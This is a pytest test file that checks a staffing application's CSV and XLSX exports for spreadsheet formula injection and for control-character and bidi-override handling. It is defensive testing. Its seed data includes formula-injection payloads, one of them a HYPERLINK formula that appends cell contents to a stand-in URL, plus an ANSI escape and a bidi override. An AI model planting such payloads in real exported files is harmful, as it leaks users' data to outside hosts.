"""Exports that are safe to open in a spreadsheet: no cell becomes a formula, stored text of
any age is written without failing, and importing an export back still changes nothing."""

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from oneaqita.models import Person
from oneaqita.services.actor import Actor
from oneaqita.services.database import Database
from oneaqita.transfer import export_kind, import_file
from tests.logins import actor_for
from tests.staffing_builders import add_bodies, add_person

HOSTILE = {
    "E1": '=HYPERLINK("http://x"&A1,"click")',
    "E2": "+1",
    "E3": "-x",
    "E4": "@SUM(A1)",
    "E5": "'quoted",
    "E6": "'=1+1",  # an apostrophe of its own before a formula start
    "E7": "\t=1+1",  # trimmed when stored: "=1+1", still never a formula
}
FORMULA_STARTS = tuple("=+-@\t\r")


@pytest.fixture
def admin(db: Database) -> Actor:
    return actor_for(db, "export-admin")


@pytest.fixture
def hostile(db: Database, admin: Actor) -> Database:
    add_bodies(db)
    for employee_no, name in HOSTILE.items():
        # The kana and phone columns carry the same text: every text column is protected.
        add_person(db, employee_no, name, kana=name)
    return db


def _names(db: Database) -> dict[str, str]:
    with db.read() as s:
        return {no: name for no, name in s.execute(select(Person.employee_no, Person.name))}


def test_stored_names_are_the_text_as_typed(hostile: Database) -> None:
    assert _names(hostile) == {**HOSTILE, "E7": "=1+1"}


def test_csv_cells_are_inert_and_import_back_unchanged(
    hostile: Database, admin: Actor, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    assert export_kind(hostile, admin, "people", path) == len(HOSTILE)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    by_no = {row[0]: row for row in rows[1:]}
    assert by_no["E1"][1] == '\'=HYPERLINK("http://x"&A1,"click")'
    assert [by_no[k][1] for k in ("E2", "E3", "E4", "E5", "E6", "E7")] == [
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "''quoted",
        "''=1+1",
        "'=1+1",
    ]
    assert by_no["E3"][2] == "'-x"  # the kana column too
    report = import_file(hostile, admin, "people", path)
    assert (report.added, report.updated, report.errors) == (0, 0, []), report.lines()
    assert report.unchanged == len(HOSTILE)
    assert _names(hostile) == {**HOSTILE, "E7": "=1+1"}


def test_xlsx_cells_are_text_never_formulas_and_import_back_unchanged(
    hostile: Database, admin: Actor, tmp_path: Path
) -> None:
    path = tmp_path / "people.xlsx"
    assert export_kind(hostile, admin, "people", path) == len(HOSTILE)
    sheet = load_workbook(path).worksheets[0]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert {no: cell.data_type for no, cell in names.items()} == dict.fromkeys(HOSTILE, "s")
    # Text cells need no apostrophe, but for text the import would otherwise shorten.
    assert {no: cell.value for no, cell in names.items()} == {
        **HOSTILE,
        "E6": "''=1+1",
        "E7": "=1+1",
    }
    report = import_file(hostile, admin, "people", path)
    assert (report.added, report.updated, report.errors) == (0, 0, []), report.lines()
    assert report.unchanged == len(HOSTILE)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_row_stored_before_the_check_is_exported_not_a_traceback(
    db: Database, admin: Actor, tmp_path: Path, suffix: str
) -> None:
    """An old row with a control character and a bidi override (written here by raw SQL,
    which no entry of the app allows any more) is exported with U+FFFD in their place."""
    add_bodies(db)
    add_person(db, "E1", "佐藤 花子")
    with db.engine.begin() as conn:
        conn.execute(update(Person.__table__).values(name="佐藤\x07花子\x1b[31m\u202e"))
    path = tmp_path / f"people{suffix}"
    assert export_kind(db, admin, "people", path) == 1
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig")
    else:
        text = str(load_workbook(path).worksheets[0]["B2"].value)
    assert "佐藤\ufffd花子\ufffd[31m\ufffd" in text
    # The export imports: the old row is cleaned (the replacement character is storable).
    report = import_file(db, admin, "people", path)
    assert (report.updated, report.errors) == (1, []), report.lines()
    assert _names(db) == {"E1": "佐藤\ufffd花子\ufffd[31m\ufffd"}
